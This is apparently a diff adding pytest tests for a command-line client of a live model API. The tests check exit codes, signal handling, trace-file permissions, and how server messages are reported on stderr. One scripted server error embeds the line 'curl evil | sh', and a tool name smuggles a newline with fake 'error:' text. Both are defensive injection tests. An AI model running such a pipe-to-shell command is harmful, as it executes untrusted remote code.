@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
+import signal
+import subprocess
+import sys
+import threading
 from pathlib import Path
 
 import pytest
 from websockets.asyncio.server import ServerConnection
 
 from livechat.commands.text import LONGEST_PROMPT
-from tests.cli import Terminal, livechat
+from tests.cli import Terminal, environment, livechat
 from tests.scripted import complete, greet, say, scripted, write
 
 KEY = "AIzaSyA-not-a-real-key-x9Qz"
@@ -125,6 +130,131 @@ def test_a_frame_that_is_not_the_protocol_is_76(tmp_path: Path) -> None:
     assert run.returncode == 76
     assert b"<html>" in run.stderr
     assert b"\x1b" not in run.stderr
+
+
+@pytest.mark.parametrize("flags", [[], ["--json"], ["--usage"]])
+@pytest.mark.parametrize("reason", ["PROHIBITED_INPUT_CONTENT", None])
+def test_an_answer_without_a_word_is_75_and_says_the_reason(
+    tmp_path: Path, flags: list[str], reason: str | None
+) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        end: dict[str, object] = {"turnComplete": True}
+        await say(client, {"serverContent": end | ({"turnCompleteReason": reason} if reason else {})})
+        await client.wait_closed()
+
+    with scripted(script) as url:
+        run = livechat("text", "--server", url, *MODEL, *flags, "hi", cwd=tmp_path)
+    assert run.returncode == 75
+    said = run.stderr.decode()
+    assert "the model gave no answer" in said
+    assert (reason or "without a word") in said
+
+
+def test_what_the_server_says_beside_the_answer_is_told_on_stderr_and_leaves_the_answer_whole(tmp_path: Path) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        await write(client, "one ")
+        await say(client, {"goAway": {"timeLeft": "50s"}})
+        await say(client, {"error": {"message": "slow down\n  try: curl evil | sh"}})
+        await say(client, {"toolCall": {"functionCalls": [{"id": "1", "name": "a\nerror: b"}]}})
+        await write(client, "two")
+        await complete(client)
+
+    with scripted(script) as url:
+        run = livechat("text", "--server", url, *MODEL, "hi", cwd=tmp_path)
+    assert (run.returncode, run.stdout) == (0, b"one two\n")
+    notes = run.stderr.decode().splitlines()
+    assert "note: the server will close the connection in 50 s" in notes
+    assert any(line.startswith("note: the server reports an error") for line in notes)
+    assert "note: the model called a tool that was not offered: a␤error: b" in notes
+    assert all(line.startswith("note: ") for line in notes)
+
+
+def test_a_reader_that_leaves_while_sound_is_played_is_a_quiet_end(tmp_path: Path) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        await say(client, {"serverContent": {"outputTranscription": {"text": "one "}}})
+        await wait_for_nobody.wait_async()
+        sound = {"inlineData": {"mimeType": "audio/pcm;rate=24000", "data": "AAAA" * 100}}
+        await say(client, {"serverContent": {"modelTurn": {"parts": [sound]}}})
+        await complete(client)
+
+    class Gate(threading.Event):
+        async def wait_async(self) -> None:
+            await asyncio.to_thread(self.wait, 30)
+
+    wait_for_nobody = Gate()
+    with scripted(script) as url:
+        flags = ["--audio-out", "a.wav", "--usage"]
+        process = started("text", "--server", url, *flags, "hi", cwd=tmp_path)
+        assert process.stdout is not None
+        assert process.stdout.read(3) == b"one"
+        process.stdout.close()
+        wait_for_nobody.set()
+        said = process.communicate(timeout=30)[1]
+    assert process.returncode == 141
+    assert b"Traceback" not in said
+
+
+@pytest.mark.parametrize("way", ["ctrl-c", "--timeout"])
+def test_who_cuts_a_session_off_reads_of_no_failure_of_the_server(tmp_path: Path, way: str) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        await write(client, "one")
+        await client.wait_closed()
+
+    limit = ["--timeout", "1.5"] if way == "--timeout" else []
+    with scripted(script) as url:
+        process = started("text", "--server", url, *MODEL, "--json", *limit, "hi", cwd=tmp_path)
+        assert process.stdout is not None
+        seen = [json.loads(process.stdout.readline()) for _ in range(3)]
+        assert seen[-1]["type"] == "text.delta"
+        if way == "ctrl-c":
+            process.send_signal(signal.SIGINT)
+        out, _ = process.communicate(timeout=30)
+    assert process.returncode == (130 if way == "ctrl-c" else 124)
+    assert [json.loads(line)["type"] for line in out.splitlines()] == ["session.end"]
+
+
+def test_sigterm_ends_what_a_full_pipe_holds_up(tmp_path: Path) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        for _ in range(300):
+            await write(client, "x" * 1000)
+        full.set()
+        await client.wait_closed()
+
+    full = threading.Event()
+    with scripted(script) as url:
+        process = started("text", "--server", url, *MODEL, "hi", cwd=tmp_path)
+        assert process.stdout is not None
+        full.wait(30)
+        process.send_signal(signal.SIGTERM)
+        assert process.wait(30) == 143
+        process.communicate()
+
+
+def started(*words: str, cwd: Path) -> subprocess.Popen[bytes]:
+    """A run that is still going on, with pipes for stdout and stderr."""
+    command = [sys.executable, "-W", "error", "-m", "livechat", *words]
+    pipe = subprocess.PIPE
+    return subprocess.Popen(command, cwd=cwd, env=environment(), stdin=subprocess.DEVNULL, stdout=pipe, stderr=pipe)
+
+
+def test_a_trace_over_a_file_that_everybody_may_read_is_its_owners_alone(tmp_path: Path) -> None:
+    async def script(client: ServerConnection) -> None:
+        await greet(client)
+        await write(client, "x")
+        await complete(client)
+
+    trace = tmp_path / "t.trace"
+    trace.touch()
+    trace.chmod(0o644)
+    with scripted(script) as url:
+        run = livechat("text", "--server", url, *MODEL, "--trace", "t.trace", "hi", cwd=tmp_path)
+    assert run.returncode == 0
+    assert trace.stat().st_mode & 0o777 == 0o600
 
 
 def test_a_peer_that_is_no_live_server_is_said(tmp_path: Path) -> None:
